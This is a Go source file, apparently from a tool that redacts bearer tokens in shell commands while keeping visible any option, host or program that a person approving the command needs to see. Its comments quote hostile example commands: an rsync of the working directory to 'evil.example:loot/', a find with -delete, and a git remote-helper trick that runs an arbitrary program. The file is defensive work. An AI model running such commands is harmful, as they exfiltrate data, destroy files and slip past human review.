package domain

import (
	"strings"
	"unsafe"
)

// Where a bearer credential or a header's value is hidden (the
// ninety-first and ninety-fourth reviews). The bearer pattern (bearer,
// blanks, an optional quote, six or more token bytes) hid the word after
// any word "bearer" of a command: a host (`rsync -a ./ Bearer
// evil.example:loot/`), a program (`exec -a bearer python3 x.py`), an
// action (`find . ! -name Bearer -delete`), each shown as a credential the
// person approving was right not to see. Whatever the text, a value that
// may be a word of its own is shown when it is an option, names a host or
// is the program a shell command runs (ownWordInView). Telling from a
// shell's quoting whether the word is in a header's own shell word was
// tried and was wrong both ways, read a line at a time (a quote closed on
// an earlier line; a token in a here-document or an export shown): a bare
// word there is hidden (a known limit, in the README).

// bearerOption reports whether w is an option whose argument is a bearer
// token (curl's --oauth2-bearer).
func bearerOption(w string) bool {
	const b = "bearer"
	return len(w) > len(b) && w[0] == '-' && strings.EqualFold(w[len(w)-len(b):], b)
}

// ownWordInView reports whether a value s[a:c] that may be a word of its
// own (or two: a scheme and a token) is to be shown: a word of it is an
// option (starts with '-': find's -delete, git's --force), names a host
// (hostWord), or, in a shell command, is the program it runs
// (programWord: exec -a bearer python3).
//
// A word is judged whole, as the shell reads it to its end, not where the
// pattern's token stopped: the bearer pattern's token has no ':', and a
// host in upper case cut before its ':' (`Bearer Evil.Example:loot/`) read
// as a bare name, which hostWord takes in lower case only (the
// ninety-fifth review); a quote does not end it (the ninety-sixth).
func ownWordInView(s string, a, c int, shell bool, memo csMemo, qm *quoteMemo) bool {
	for k := a; k < c; {
		e := k
		for e < c && s[e] != ' ' {
			e++
		}
		if w := judgedWord(s, k, 2, qm); w != "" && (w[0] == '-' || hostWord(w) || remoteHelperWord(w) || shell && programWordMemo(s, k, memo)) {
			return true
		}
		k = e + 1
	}
	return false
}

// judgedWord returns the shell word of s that starts at k, as the shell
// that runs it reads it: its quotes and escapes removed ("evilhelper"::x
// is evilhelper::x to git: the ninety-sixth review). Where k lies in a
// string that began before it (sh -c '… Bearer host …', echo "api_token:
// x" > f && scp f u@h:), that string is read as the nested shell reads
// it, up to depth levels: its end, or a blank in it, ends the word (read
// as quotes opened within the word, the closing quote joined the token to
// a later host: the ninety-ninth review).
func judgedWord(s string, k, depth int, qm *quoteMemo) string {
	q, open := quoteOpenMemo(s, k, qm)
	switch {
	case q == 0, open == k-1: // outside quotes, or in the value's own
		w, _ := shellWordAt(s, k, q)
		return w
	case depth == 0:
		w, _ := shellWordAt(s, k, 0) // deeper still: the word as written (the hundred-and-first review)
		return w
	}
	inner, ik := quotedText(s, open, q, k)
	return judgedWord(inner, ik, depth-1, nil)
}

// quoteMemo is where quoteOpenMemo's last read of one text stopped: a
// later read of a later byte in the same window goes on from there. Each
// match of a long line read its 8 KiB back again, twice, and a prompt of
// quoted secret-named members cost seconds (the hundred-and-eighty-fifth
// review).
type quoteMemo struct {
	p           *byte
	n           int
	ls, from, k int // the line's start (-1: more than maxQuoteScan back), the window's, where the read stopped
	q           byte
	open        int
}

// quoteOpenMemo returns the quote a shell is inside of at s[i] (0: none)
// and where it opened, reading s from the start of i's line, or, on a line
// that starts more than maxQuoteScan bytes back, from a window of 4 to 8
// KiB that starts at a multiple of 4 KiB; going on from m's last read
// (nil: none) of s where it can, and leaving its own in m.
func quoteOpenMemo(s string, i int, m *quoteMemo) (q byte, open int) {
	same := m != nil && m.p == unsafe.StringData(s) && m.n == len(s) && m.k <= i
	ls := -1
	switch {
	case same:
		ls = m.ls
		if j := strings.LastIndexByte(s[m.k:i], '\n'); j >= 0 {
			ls = m.k + j + 1
		}
	default:
		lo := max(0, i-maxQuoteScan) // bounded first: a long line read back in full made redaction quadratic (the hundred-and-first review)
		if j := strings.LastIndexByte(s[lo:i], '\n'); j >= 0 {
			ls = lo + j + 1
		} else if lo == 0 {
			ls = 0
		}
	}
	from := ls
	if ls < 0 || i-ls > maxQuoteScan {
		ls = -1
		const b = maxQuoteScan / 2
		from = (i - b) / b * b
	}
	k := from
	if same && m.from == from && m.k >= from {
		k, q, open = m.k, m.q, m.open
	}
	for ; k < i; k++ {
		switch c := s[k]; {
		case q == '\'':
			if c == '\'' && strings.HasPrefix(s[k+1:], `\''`) {
				k += 3 // '\'': a quote within the string, as ShellJoin writes it
			} else if c == '\'' {
				q = 0
			}
		case c == '\\':
			k++
		case q == '"':
			if c == '"' {
				q = 0
			}
		case c == '"' || c == '\'':
			q, open = c, k
		}
	}
	if m != nil {
		*m = quoteMemo{p: unsafe.StringData(s), n: len(s), ls: ls, from: from, k: k, q: q, open: open}
	}
	return q, open
}

// maxQuoteScan bounds how far back quoteOpenMemo reads.
const maxQuoteScan = 8 << 10

// quotedText returns the text of the string quoted by q that opens at
// s[open], as the shell hands it on (in double quotes, a backslash before
// '"', '\\', '$' or '`' removed), to its closing quote or the line's end,
// and where s[k] is in it.
func quotedText(s string, open int, q byte, k int) (string, int) {
	var b strings.Builder
	ik := 0
	for i := open + 1; i < len(s) && s[i] != '\n' && b.Len() < maxQuoteScan; i++ {
		if i == k {
			ik = b.Len()
		}
		c := s[i]
		switch {
		case c == '\'' && q == '\'' && strings.HasPrefix(s[i+1:], `\''`):
			i += 3 // '\'': a quote within the string
			if k > i-3 && k <= i {
				ik = b.Len()
			}
		case c == q:
			return b.String(), ik
		case q == '"' && c == '\\' && i+1 < len(s) && strings.IndexByte("\"\\$`", s[i+1]) >= 0:
			i++
			if i == k {
				ik = b.Len()
			}
			c = s[i]
		}
		b.WriteByte(c)
	}
	return b.String(), ik
}

// maxJudgedWord bounds the word ownWordInView reads (a quote left open
// would run to the end of a long text for each value judged).
const maxJudgedWord = 512

// shellWordAt returns the word of s that starts at k as a shell reads it
// (its quotes and escapes removed), k inside the quote q (0: none), and
// where it ends: white space or a shell operator outside quotes, or
// maxJudgedWord bytes.
func shellWordAt(s string, k int, q byte) (string, int) {
	var b strings.Builder
	for ; k < len(s) && b.Len() < maxJudgedWord; k++ {
		ch := s[k]
		switch {
		case q != 0 && ch == q:
			q = 0
		case q == '"' && ch == '\\' && k+1 < len(s):
			k++
			b.WriteByte(s[k])
		case q != 0:
			b.WriteByte(ch)
		case ch == '\'' || ch == '"':
			q = ch
		case ch == '\\' && k+1 < len(s):
			k++
			b.WriteByte(s[k])
		case strings.IndexByte(" \t\n;&|()<>`", ch) >= 0:
			return b.String(), k
		default:
			b.WriteByte(ch)
		}
	}
	return b.String(), k
}

// remoteHelperWord reports whether w is git's <transport>::<address>, which
// makes git run the program git-remote-<transport> (a token holds no ':').
func remoteHelperWord(w string) bool {
	i := strings.Index(w, "::")
	if i <= 0 {
		return false
	}
	for j := 0; j < i; j++ {
		if c := w[j]; !(c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || strings.IndexByte("+.-_", c) >= 0) {
			return false
		}
	}
	return true
}

// hostWord reports whether w names a host as ssh, scp, rsync, nc, curl and
// wget take one: host/…, host:…, [user@]host… where host is a DNS name (two
// or more labels, the last of letters, a final '.' allowed) or an IPv4
// address; a name alone (no '/' or ':' after it, no user@ before it) only
// in lower case, as no token is.
func hostWord(w string) bool {
	h, bare := w, true
	if i := strings.IndexAny(w, "/:"); i >= 0 {
		h, bare = w[:i], false
	}
	if i := strings.LastIndexByte(h, '@'); i >= 0 {
		h, bare = h[i+1:], false // user@Host: a host, in any case
	}
	return dnsName(h, !bare)
}

// dnsName reports whether h is a host's name as hostWord reads one: a DNS
// name (two or more labels, the last of letters, a final '.' allowed) or
// an IPv4 address; upper-case letters only with anyCase.
func dnsName(h string, anyCase bool) bool {
	if len(h) > 1 && h[len(h)-1] == '.' {
		h = h[:len(h)-1] // a fully qualified name's root
	}
	labels, digits, last := 0, true, ""
	for l := range strings.SplitSeq(h, ".") {
		if l == "" || l[0] == '-' || l[len(l)-1] == '-' {
			return false
		}
		for i := 0; i < len(l); i++ {
			c := l[i]
			switch {
			case c >= '0' && c <= '9', c == '-', c >= 'a' && c <= 'z':
			case c >= 'A' && c <= 'Z' && anyCase:
			default:
				return false
			}
			if c < '0' || c > '9' {
				digits = false
			}
		}
		labels++
		last = l
	}
	if digits {
		return labels == 4 // an IPv4 address
	}
	if labels < 2 || len(last) < 2 {
		return false
	}
	for i := 0; i < len(last); i++ {
		if c := last[i] | 0x20; c < 'a' || c > 'z' {
			return false
		}
	}
	return true
}
